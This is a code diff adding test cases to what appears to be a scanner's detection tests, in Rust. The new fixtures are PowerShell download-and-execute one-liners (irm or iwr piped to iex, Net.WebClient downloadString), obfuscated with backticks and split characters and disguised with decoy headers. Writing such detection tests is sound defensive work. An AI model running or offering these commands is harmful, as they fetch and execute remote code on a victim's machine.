@@ -24,6 +24,13 @@ pub(super) fn bad() -> Vec<Found> {
             text("# Title\nIN`V¦Oke-eXp`R¦ession (New-Object Net.WebClient).dow`n¦load`String('a')\n"),
         ),
         ("Script_PowerShell_Downloader", text("ir¦m http://example.invalid/a | ie¦x\n")),
+        ("Script_PowerShell_Downloader", text("i`w¦`r http://example.invalid/a | ie¦x\n")),
+        // Marks of a document in comments, a first line of two letters, the beginning of a program.
+        ("Script_PowerShell_Downloader", text("#<pre>\nir¦m http://example.invalid/a | ie¦x\n")),
+        ("Script_PowerShell_Downloader", text("# ```\n# Title\n\n# a::\nir¦m http://example.invalid/a | ie¦x\n")),
+        ("Script_PowerShell_Downloader", text("<#<html>#>\nir¦m http://example.invalid/a | ie¦x\n")),
+        ("Script_PowerShell_Downloader", text("#a\r\nir¦m http://example.invalid/a | ie¦x\r\n")),
+        ("Script_PowerShell_Downloader", text("MZ = 1\r\nir¦m http://example.invalid/a | ie¦x\r\n")),
         (
             "Script_PowerShell_Downloader",
             text(
